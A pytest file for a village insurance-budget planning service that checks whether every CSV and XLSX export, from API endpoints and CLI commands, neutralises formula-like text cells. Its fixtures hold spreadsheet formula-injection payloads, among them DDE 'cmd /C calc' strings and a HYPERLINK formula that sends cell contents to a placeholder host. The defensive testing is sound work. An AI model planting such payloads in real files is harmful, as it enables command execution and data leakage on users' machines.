"""No text cell a spreadsheet would run, in any file any endpoint or command writes: a village
table whose villages, kecamatan, kabupaten, package and scenario are named like formulas goes
through every download of the service (plain and planner's files, `lang=id|en`, `csv=excel-id`,
the per-kecamatan and per-kabupaten zips, comparisons, shortfalls, curves, fairness, marginals,
plan against actual) and every command (`solve` with and without `--lang`, `sweep`, `marginals`,
`fairness`, `actuals`, `replan`). Each CSV is read cell by cell, each XLSX opened with openpyxl:
a text cell starting with = + - @ tab or CR must carry the quote (as text or as the quote-prefix
style); the only formulas are the totals rows' SUBTOTALs."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from scenarios.safe_cells import FORMULA_STARTS

DESAPLAN = str(Path(sys.executable).parent / "desaplan")
NAMES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "-Desa",
]
KECAMATAN = ["=KECAMATAN()", "-Babelan", "+Tambun"]
KABUPATEN = ["@Bekasi", "=Karawang"]
SCENARIO: dict[str, Any] = {
    "name": "=cmd|' /C calc'!A0",
    "packages": [
        {"code": "-JKK", "monthly_premium_idr": 16800},
        {"code": "JKK-JKM-JHT", "monthly_premium_idr": 36800, "value": 1.3},
    ],
    "budget": {"dana_desa_share": 0.03, "apbd_pool_idr": {k: 100_000_000 for k in KABUPATEN}},
    "targets": {"min_coverage": 0.05},
}
SHORT: dict[str, Any] = {
    **SCENARIO,
    "name": "+short",
    "budget": {"dana_desa_share": 0.001},
    "targets": {"min_coverage": 0.9},
}
SUBTOTAL = re.compile(r"^=SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\)$")


def _villages_csv() -> bytes:
    lines = [
        "village_code,village_name,kecamatan,kabupaten,dana_desa_idr,add_idr,"
        "uninsured_farmers,uninsured_fishers"
    ]
    for i, name in enumerate(NAMES):
        kabupaten = KABUPATEN[i % 2]
        code = f"32.{16 + i % 2}.0{1 + i % 3}.{2001 + i}"
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(
            f"{code},{quoted},{KECAMATAN[i % 3]},{kabupaten},{1_500_000_000 + i},"
            f"{500_000_000},{300 + 10 * i},{40 + i}"
        )
    return ("\n".join(lines) + "\n").encode()


def _actuals_csv() -> bytes:
    rows = ["village_code,month,new_enrollments"]
    rows += [f"32.{16 + i % 2}.0{1 + i % 3}.{2001 + i},2026-01,{i + 1}" for i in range(len(NAMES))]
    return ("\n".join(rows) + "\n").encode()


def _is_number(text: str) -> bool:
    try:
        float(text.replace(".", "").replace(",", ".") if "," in text else text)
    except ValueError:
        return False
    return True


def _csv_problems(name: str, content: bytes) -> tuple[list[str], int]:
    text = content.decode("utf-8-sig")
    separator = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    bad, quoted = [], 0
    for number, row in enumerate(csv.reader(io.StringIO(text), delimiter=separator), start=1):
        for cell in row:
            if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                quoted += 1
            elif cell.startswith(FORMULA_STARTS) and not _is_number(cell):
                bad.append(f"{name} row {number}: {cell!r}")
    return bad, quoted


def _xlsx_problems(name: str, content: bytes) -> tuple[list[str], int]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    bad, quoted = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                where = f"{name} {sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    if not SUBTOTAL.match(str(value)):
                        bad.append(f"{where}: formula {value!r}")
                    continue
                if not isinstance(value, str):
                    continue
                if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
                    quoted += 1
                elif value.startswith(FORMULA_STARTS):
                    if cell.quotePrefix:
                        quoted += 1
                    else:
                        bad.append(f"{where}: {value!r}")
    return bad, quoted


def _problems(name: str, content: bytes) -> tuple[list[str], int]:
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            if "xl/workbook.xml" in archive.namelist():
                return _xlsx_problems(name, content)
            bad, quoted = [], 0
            for member in archive.namelist():
                found, count = _problems(f"{name}/{member}", archive.read(member))
                bad += found
                quoted += count
            return bad, quoted
    return _csv_problems(name, content)


class Files:
    """Every file gathered, by what it came from."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}

    def get(self, client: TestClient, name: str, url: str, **params: Any) -> None:
        response = client.get(url, params=params)
        assert response.status_code == 200, (name, response.text[:500])
        self.files[name] = response.content

    def post(self, client: TestClient, name: str, url: str, body: dict[str, Any], **params: Any) -> None:
        response = client.post(url, params=params, json=body)
        assert response.status_code == 200, (name, response.text[:500])
        self.files[name] = response.content


def _created(response: Any) -> dict[str, Any]:
    assert response.status_code in (200, 201), response.text[:500]
    body: dict[str, Any] = response.json()
    return body


def _service_files(client: TestClient) -> dict[str, bytes]:
    files = Files()
    dataset = _created(client.post("/datasets", files={"file": ("desa.csv", _villages_csv(), "text/csv")}))
    scenario = _created(client.post("/scenarios", json={"dataset_id": dataset["id"], "scenario": SCENARIO}))
    other = _created(
        client.post(
            "/scenarios",
            json={
                "dataset_id": dataset["id"],
                "scenario": {
                    **SCENARIO,
                    "name": "@other",
                    "budget": {**SCENARIO["budget"], "dana_desa_share": 0.01},
                },
            },
        )
    )
    short = _created(client.post("/scenarios", json={"dataset_id": dataset["id"], "scenario": SHORT}))
    plan = _created(client.post("/solves", json={"scenario_id": scenario["id"]}))
    other_plan = _created(client.post("/solves", json={"scenario_id": other["id"]}))
    short_plan = _created(client.post("/solves", json={"scenario_id": short["id"]}))
    assert plan["status"] == "optimal" and short_plan["status"] == "infeasible"

    for fmt in ("csv", "xlsx"):
        files.get(client, f"dataset.{fmt}", f"/datasets/{dataset['id']}/download", format=fmt)
        files.get(client, f"targets.{fmt}", f"/plans/{plan['id']}/targets", format=fmt)
        for lang in ("id", "en"):
            files.get(client, f"targets_{lang}.{fmt}", f"/plans/{plan['id']}/targets", format=fmt, lang=lang)
        files.get(client, f"shortfalls.{fmt}", f"/plans/{short_plan['id']}/shortfalls", format=fmt)
        files.post(
            client,
            f"curve.{fmt}",
            "/sweeps",
            {"scenario_id": scenario["id"], "lever": "dana_desa_share", "values": [0.01, 0.05]},
            format=fmt,
        )
        files.post(client, f"fairness.{fmt}", "/fairness", {"scenario_id": scenario["id"]}, format=fmt)
    files.get(client, "targets_excel_id.csv", f"/plans/{plan['id']}/targets", format="csv", csv="excel-id")
    for split in ("kecamatan", "kabupaten"):
        for lang in ("id", "en"):
            files.get(
                client,
                f"targets_{split}_{lang}.zip",
                f"/plans/{plan['id']}/targets",
                format="xlsx",
                split=split,
                lang=lang,
            )
    files.get(client, "marginals.xlsx", f"/plans/{plan['id']}/marginals", format="xlsx")
    for table in ("top", "villages", "kecamatan", "pools"):
        files.get(
            client, f"marginals_{table}.csv", f"/plans/{plan['id']}/marginals", format="csv", table=table
        )
    comparison = _created(
        client.post("/comparisons", json={"baseline_plan_id": plan["id"], "plan_ids": [other_plan["id"]]})
    )
    url = f"/comparisons/{comparison['id']}"
    for table in ("totals", "kecamatan", "villages", "gainers", "losers"):
        files.get(client, f"comparison_{table}.csv", url, format="csv", table=table)
        files.get(
            client, f"comparison_{table}_id.csv", url, format="csv", table=table, lang="id", csv="excel-id"
        )
    files.get(client, "comparison.xlsx", url, format="xlsx")
    for lang in ("id", "en"):
        files.get(client, f"comparison_{lang}.xlsx", url, format="xlsx", lang=lang)
    actuals = _created(
        client.post(
            f"/plans/{plan['id']}/actuals",
            files={"file": ("laporan.csv", _actuals_csv(), "text/csv")},
            data={"start": "2026-01"},
        )
    )
    for table in ("villages", "kecamatan", "sources"):
        files.get(client, f"actuals_{table}.csv", f"/actuals/{actuals['id']}.csv", table=table)
    for lang in ("id", "en"):
        files.get(client, f"actuals_{lang}.xlsx", f"/actuals/{actuals['id']}.xlsx", lang=lang)
    return files.files


# the files where the table's names are written: each must show the quote at work
NAMED = (
    "dataset",
    "targets",
    "shortfalls",
    "fairness.xlsx",
    "comparison_villages",
    "comparison.xlsx",
    "comparison_id",
    "comparison_en",
    "marginals.xlsx",
    "marginals_villages",
    "actuals_villages",
    "actuals_id",
    "actuals_en",
)


def _assert_safe(files: dict[str, bytes]) -> None:
    problems: list[str] = []
    untested: list[str] = []
    for name, content in files.items():
        bad, quoted = _problems(name, content)
        problems += bad
        if name.startswith(NAMED) and not quoted:
            untested.append(name)
    assert not problems, "\n".join(problems[:50])
    assert not untested, f"no formula-like name in {untested}, so nothing was tested there"


def test_every_file_of_the_service_quotes_formula_like_names(empty_client: TestClient) -> None:
    files = _service_files(empty_client)

    assert len(files) >= 40
    _assert_safe(files)


def _run(*args: str | Path) -> None:
    result = subprocess.run([DESAPLAN, *map(str, args)], capture_output=True, text=True, timeout=600)
    assert result.returncode in (0, 3), result.stderr  # 3: the short scenario is infeasible


@pytest.mark.parametrize("lang", [None, "id"])
def test_every_file_of_the_commands_quotes_formula_like_names(tmp_path: Path, lang: str | None) -> None:
    villages = tmp_path / "desa.csv"
    villages.write_bytes(_villages_csv())
    scenario, short = tmp_path / "scenario.json", tmp_path / "short.json"
    scenario.write_text(json.dumps(SCENARIO))
    short.write_text(json.dumps(SHORT))
    actuals = tmp_path / "laporan.csv"
    actuals.write_bytes(_actuals_csv())
    chosen = ["--lang", lang] if lang else []
    common = ["--villages", villages, "--scenario", scenario]

    _run("solve", *common, "--out", tmp_path / "solve", "--quiet", *chosen)
    _run(
        "solve", "--villages", villages, "--scenario", short, "--out", tmp_path / "short", "--quiet", *chosen
    )
    _run(
        "sweep",
        *common,
        "--out",
        tmp_path / "sweep",
        "--lever",
        "dana_desa_share",
        "--values",
        "0.01,0.05",
        *chosen,
    )
    _run("marginals", *common, "--out", tmp_path / "marginals", *chosen)
    _run("fairness", *common, "--out", tmp_path / "fairness", *chosen)
    _run(
        "actuals",
        *common,
        "--plan",
        tmp_path / "solve" / "plan.json",
        "--actuals",
        actuals,
        "--start",
        "2026-01",
        "--out",
        tmp_path / "actuals",
        *chosen,
    )
    _run(
        "replan",
        *common,
        "--plan",
        tmp_path / "solve" / "plan.json",
        "--actuals",
        actuals,
        "--start",
        "2026-01",
        "--out",
        tmp_path / "replan",
        *chosen,
    )

    written = {
        str(path.relative_to(tmp_path)): path.read_bytes()
        for path in sorted(tmp_path.glob("*/*"))
        if path.suffix in (".csv", ".xlsx", ".zip")
    }
    assert {"solve/targets.csv", "solve/targets.xlsx", "short/infeasible.xlsx"} <= set(written)
    problems: list[str] = []
    for name, content in written.items():
        problems += _problems(name, content)[0]
    assert not problems, "\n".join(problems[:50])
    for name in ("solve/targets.csv", "solve/targets.xlsx", "short/infeasible.xlsx"):
        assert _problems(name, written[name])[1] > 0, f"{name}: no formula-like name in it"
